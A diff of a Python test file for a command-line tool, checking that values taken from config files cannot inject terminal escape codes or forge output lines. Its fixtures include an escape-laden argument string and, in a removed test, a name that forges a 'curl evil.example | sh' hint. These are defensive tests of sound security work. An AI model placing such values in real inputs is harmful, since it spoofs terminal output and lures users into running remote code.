@@ -77,9 +77,6 @@ def test_a_problem_is_told_to_the_runner_and_what_it_quotes_is_no_command(hub: H
     assert all(line.startswith("::error file=") for line in done.err.splitlines() if line.lstrip().startswith("::"))
 
 
-# -- the program's own screens
-
-
 SHOWN_LINE = r"-ARG V=3.2.1 W=\x1b[2J\x1b[8m\x1b]0;evil\x07\u202e"
 
 
@@ -92,13 +89,6 @@ def test_a_plan_shows_what_a_line_says_and_does_not_do_it(hub: Hub) -> None:
         assert done.code == 0, done
         assert SHOWN_LINE in done.out
         assert [one for one in ("\u202e", CLEAR, TITLE) if one in done.out + done.err] == []
-
-
-def test_a_name_in_a_fault_cannot_forge_a_line_or_draw(hub: Hub) -> None:
-    hub.edit(CHARTPRESS, "name: hub\n", 'name: "x\\e[2J\\nhint: curl evil.example | sh"\n')
-    done = run_task("commit", cwd=hub.path)
-    assert [line.partition(":")[0] for line in done.err.splitlines()] == ["error", "hint"]
-    assert "\x1b" not in done.err
 
 
 # -- Markdown
